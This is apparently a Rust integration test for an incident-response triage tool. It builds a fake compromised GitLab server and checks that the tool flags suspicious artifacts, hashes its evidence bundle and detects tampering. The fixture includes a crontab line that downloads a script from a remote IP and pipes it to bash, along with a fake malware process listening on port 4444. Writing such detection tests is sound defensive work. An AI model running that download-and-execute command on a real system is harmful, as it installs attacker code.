//! `glir triage host` and `glir triage verify` as a responder runs them, over a fake server
//! root and a fake `/proc`: exit codes, the summary, the bundle's hash and what it flags.

mod common;

use common::{bare_glir, text};
use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::Output;

const DB_PASSWORD: &str = "Cli-Db-Secret-4471";

fn write(root: &Path, path: &str, content: &str) {
    let full = root.join(path);
    std::fs::create_dir_all(full.parent().unwrap()).unwrap();
    std::fs::write(full, content).unwrap();
}

/// A server with a secret in gitlab.rb, a download-and-run cron job, and a process from /tmp
/// listening on 4444.
fn fake_server(dir: &Path) {
    let root = dir.join("root");
    write(&root, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    write(
        &root,
        "etc/gitlab/gitlab.rb",
        &format!("gitlab_rails['db_password'] = '{DB_PASSWORD}'\n"),
    );
    write(&root, "etc/gitlab/gitlab-secrets.json", "{}\n");
    write(
        &root,
        "var/log/gitlab/nginx/gitlab_access.log",
        "GET / 200\n",
    );
    write(
        &root,
        "etc/crontab",
        "* * * * * root wget -qO- http://203.0.113.9/a | bash\n",
    );
    let proc = dir.join("proc");
    write(&proc, "77/comm", "kdevtmp\n");
    write(&proc, "77/cmdline", "/var/tmp/kdevtmp\0");
    write(&proc, "77/status", "PPid:\t1\nUid:\t33\t33\t33\t33\n");
    symlink("/var/tmp/kdevtmp", proc.join("77/exe")).unwrap();
    std::fs::create_dir_all(proc.join("77/fd")).unwrap();
    symlink("socket:[9001]", proc.join("77/fd/4")).unwrap();
    let listen = format!(
        "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n   0: 00000000:{:04X} 00000000:0000 0A 00000000:00000000 00:00000000 00000000    33        0 9001 1\n",
        4444
    );
    write(&proc, "net/tcp", &listen);
}

fn glir(dir: &Path, args: &[&str]) -> Output {
    bare_glir().current_dir(dir).args(args).output().unwrap()
}

#[test]
fn triage_host_writes_a_bundle_that_verifies_and_names_what_it_flagged() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    fake_server(d);
    std::fs::create_dir_all(d.join("worm")).unwrap();
    let root = d.join("root");
    let proc = d.join("proc");
    let out = glir(
        d,
        &[
            "triage",
            "host",
            "--root",
            root.to_str().unwrap(),
            "--proc",
            proc.to_str().unwrap(),
            "--output",
            "server.tar.zst",
            "--copy-to",
            "worm",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("findings  3 high"), "{stdout}");
    assert!(stdout.contains("tcp 0.0.0.0:4444"), "{stdout}");
    assert!(stdout.contains("/etc/crontab:1"), "{stdout}");
    assert!(stdout.contains("pid 77 (kdevtmp)"), "{stdout}");
    assert!(stdout.contains("read-only, hash verified"), "{stdout}");
    assert!(!text(&out).contains(DB_PASSWORD));
    let bundle = std::fs::read(d.join("server.tar.zst")).unwrap();
    assert!(
        bundle.starts_with(&[0x28, 0xb5, 0x2f, 0xfd]),
        "zstd frames begin with 28 B5 2F FD"
    );
    assert!(d.join("worm/server.tar.zst.sha256").exists());

    let out = glir(d, &["triage", "verify", "server.tar.zst"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stdout).starts_with("OK: server.tar.zst"),
        "{}",
        text(&out)
    );

    // The same again is refused: a bundle is written once.
    let again = glir(
        d,
        &[
            "triage",
            "host",
            "--root",
            root.to_str().unwrap(),
            "--output",
            "server.tar.zst",
        ],
    );
    assert_eq!(again.status.code(), Some(2), "{}", text(&again));
    assert!(text(&again).contains("already exists"), "{}", text(&again));

    // One byte changed: verify says so and exits 1.
    let mut changed = bundle.clone();
    let last = changed.len() - 10;
    changed[last] ^= 0xff;
    std::fs::write(d.join("changed.tar.zst"), &changed).unwrap();
    std::fs::copy(
        d.join("server.tar.zst.sha256"),
        d.join("changed.tar.zst.sha256"),
    )
    .unwrap();
    let out = glir(d, &["triage", "verify", "changed.tar.zst"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        text(&out).contains("problem: bundle: its SHA-256 is"),
        "{}",
        text(&out)
    );
    assert!(text(&out).contains("NOT intact"), "{}", text(&out));
}

#[test]
fn triage_host_as_json_and_its_usage_errors() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    fake_server(d);
    let root = d.join("root");
    let out = glir(
        d,
        &[
            "--format",
            "json",
            "triage",
            "host",
            "--root",
            root.to_str().unwrap(),
            "--output",
            "image.tar.zst",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let summary: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(summary["files"].as_u64().unwrap() >= 3, "{summary}");
    assert_eq!(
        summary["live"],
        serde_json::Value::Null,
        "an image has no live state: {summary}"
    );
    assert!(summary["notes"].to_string().contains("--proc"), "{summary}");
    assert_eq!(summary["findings"][0]["kind"], "cron", "{summary}");

    let missing = glir(
        d,
        &[
            "triage",
            "host",
            "--root",
            "/no/such/image",
            "--output",
            "x.tar.zst",
        ],
    );
    assert_eq!(missing.status.code(), Some(2), "{}", text(&missing));
    assert!(
        text(&missing).contains("/no/such/image"),
        "{}",
        text(&missing)
    );
    assert!(!d.join("x.tar.zst").exists());

    let csv = glir(d, &["--format", "csv", "triage", "verify", "image.tar.zst"]);
    assert_eq!(csv.status.code(), Some(2), "{}", text(&csv));
}
